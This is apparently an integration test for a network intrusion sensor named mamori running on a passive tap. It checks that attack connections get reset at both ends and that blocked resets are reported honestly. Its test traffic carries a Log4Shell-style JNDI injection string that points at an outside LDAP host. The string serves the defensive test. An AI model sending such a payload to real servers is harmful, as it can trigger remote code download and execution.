#!/usr/bin/env python3
"""mirror.py MAMORI BUILD - mamori beside the line: a copy of every frame comes in, resets go out by another interface. Connections of an attack end at both
ends, busy and quiet ones, and the receipt says what an end said; where resets are kept out, the receipt says that too. Everybody else works on."""
import json
import subprocess
import sys
import time

from attacks import HTTP
from office import GATEWAY, HOST_PARTS, INTERNET, LAN, PC1, PC2, WAN, Office, case, failed, needs, until

MAMORI = sys.argv[1]
TAP = f"{LAN}.13"
SHOT = "/?q=${jndi:ldap://203.0.113.22:1389/a}"
# one connection: an exploit request, then a request every so often (0: silence), until it is cut (exit 0) or the time is over (1)
TALK = """
import socket, sys, time
src, dst, path, every, limit = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]), float(sys.argv[5])
s = socket.socket(); s.bind((src, 0)); s.connect((dst, 80)); print(s.getsockname()[1], flush=True)
def ask(p):
    s.sendall(("GET %s HTTP/1.1\\r\\nHost: x\\r\\nUser-Agent: x\\r\\n\\r\\n" % p).encode())
    s.settimeout(30)
    if not s.recv(65536): raise ConnectionResetError
end = time.time() + limit
try:
    ask(path)
    while time.time() < end:
        s.settimeout(every or 1)
        try:
            if not s.recv(65536): sys.exit(0)
        except socket.timeout:
            if every: ask("/more")
except (ConnectionResetError, BrokenPipeError): sys.exit(0)
sys.exit(1)
"""


class Tap(Office):
    def settings(self):
        return {"deployment": "passive-tap", "site": {"home_net": [f"{LAN}.0/24"]},
                "node": {"state_dir": f"{self.dir}/state", "run_dir": f"{self.dir}/run", "name": "tap"},
                "defence": {"mode": "auto", "auto_actions_agreed": ["cut.flow"]},
                "plugins": {**{n: None for n in HOST_PARTS}, "capture": {"config": {"interfaces": ["tap0"]}},
                            "reset": {"enabled": True, "config": {"interfaces": ["tap0"], "send_by": "eth0"}}}}

    def __init__(self, mamori, drop_in):
        super().__init__(mamori, drop_in)
        self.tap = f"{self.tag}t"
        self.spaces.append(self.tap)
        self.node, self.parts = self.tap, {"network", "reset", "file"}
        subprocess.run(["ip", "netns", "add", self.tap], check=True)
        self.ip(self.tap, "link", "set", "lo", "up")
        for port, name in (("p3", "eth0"), ("copy", "tap0")):
            self.ip(self.gw, "link", "add", port, "type", "veth", "peer", "name", name, "netns", self.tap)
            self.ip(self.gw, "link", "set", port, "up")
            self.ip(self.tap, "link", "set", name, "up")
        self.ip(self.gw, "link", "set", "p3", "master", "br0")
        self.ip(self.tap, "addr", "add", f"{TAP}/24", "dev", "eth0")
        self.ip(self.tap, "route", "add", "default", "via", GATEWAY)

    def mirror(self):
        """The switch's copy of what comes in on each port; false: this kernel makes none."""
        for port in ("p1", "p2", "wan0"):
            for args in (("qdisc", "add", "dev", port, "handle", "ffff:", "ingress"),
                         ("filter", "add", "dev", port, "parent", "ffff:", "protocol", "all", "u32", "match", "u32", "0", "0", "action", "mirred", "egress", "mirror",
                          "dev", "copy")):
                if self.run(self.gw, "tc", *args).returncode != 0:
                    return False
        return True

    def cuts(self, port):
        """The receipt of the cut of the connection with this port, as it was forwarded last; empty: none yet."""
        for o in self.incidents():  # one of them may have been merged into another, with the order still open
            for a in o["unmapped"]["mamori"].get("actions", []):
                if a["verb"] == "cut.flow" and f":{port}->" in a["target"] and "receipt" in a:
                    return a["receipt"]
        return {}


def talk(o, src, dst, every, limit=90):
    p = subprocess.Popen(["ip", "netns", "exec", o.inet, sys.executable, "-c", TALK, src, dst, SHOT, str(every), str(limit)], stdout=subprocess.PIPE, text=True)
    return p, int(p.stdout.readline() or 0)


def is_held(o, port):
    """Does the server still have that connection?"""
    return f":{port} " in o.run(o.pc1, "ss", "-Htn", "state", "established").stdout.replace("\n", " ") + " "


def cut(o, name, every, last):
    p, port = talk(o, f"{WAN}.{last}", PC1, every)
    try:
        ended = p.wait(120)
    except subprocess.TimeoutExpired:
        p.kill()
        ended = p.wait()
    case(f"{name}_is_cut_at_the_attackers_end", ended == 0, o.log())
    case(f"{name}_is_cut_at_the_servers_end", until(lambda: not is_held(o, port), 30))
    case(f"{name}_is_proved_by_what_an_end_said", until(lambda: o.cuts(port).get("verified") == "confirmed" and "said that it is gone" in o.cuts(port)["detail"], 30), o.cuts(port))
    return port


def main():
    needs("tc", "ss")
    o = Tap(MAMORI, {})
    bystander = None
    try:
        if not o.mirror():
            print("[  SKIPPED ] needs a kernel whose tc mirrors frames (mirred)")
            return 77
        o.serve_python(o.pc1, HTTP, "0.0.0.0", 80)
        o.serve_python(o.inet, HTTP, "0.0.0.0", 80)
        fetch = "import sys, urllib.request\nsys.exit(0 if b'hello' in urllib.request.urlopen(sys.argv[1], timeout=5).read() else 1)"
        case("the_office_works", until(lambda: o.python(o.inet, fetch, f"http://{PC1}/").returncode == 0 and o.python(o.pc2, fetch, f"http://{INTERNET}/").returncode == 0))
        case("the_sensor_watches", o.start(), o.log())
        bystander = subprocess.Popen(["ip", "netns", "exec", o.inet, sys.executable, "-c", TALK, f"{WAN}.9", PC1, "/ordinary", "0.5", "600"], stdout=subprocess.PIPE, text=True)
        cut(o, "a_busy_connection", 0.2, 22)
        cut(o, "a_quiet_connection", 0, 23)
        for end in (o.inet, o.pc1):  # from now on resets are kept out at both ends
            o.run(end, "nft", "add table inet keep; add chain inet keep in { type filter hook input priority 0; }; add rule inet keep in tcp flags & rst == rst drop")
        p, port = talk(o, f"{WAN}.24", PC1, 0.3, 40)
        case("a_cut_that_did_not_happen_is_said", until(lambda: o.cuts(port).get("verified") == "refuted" and "goes on" in o.cuts(port)["detail"], 60), o.cuts(port) or o.log())
        case("and_it_did_not_happen", p.poll() is None)
        p.kill()
        p.wait()
        case("a_cut_is_never_called_a_defence", o.incidents() and all(i["unmapped"]["mamori"]["class"] != "defended" for i in o.incidents()),
             [i["unmapped"]["mamori"]["class"] for i in o.incidents()])
        case("others_work_on", bystander.poll() is None)
        time.sleep(1)
        case("no_part_fell", all(h["state"] == "running" for h in (o.status() or {"hosts": [{"state": "gone"}]})["hosts"]), o.log())
    finally:
        if bystander and bystander.poll() is None:
            bystander.kill()
            bystander.wait()
        if failed:
            print(o.log()[-6000:])
            print(json.dumps([i["unmapped"]["mamori"] for i in o.incidents()], indent=1)[:6000])
        o.end()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
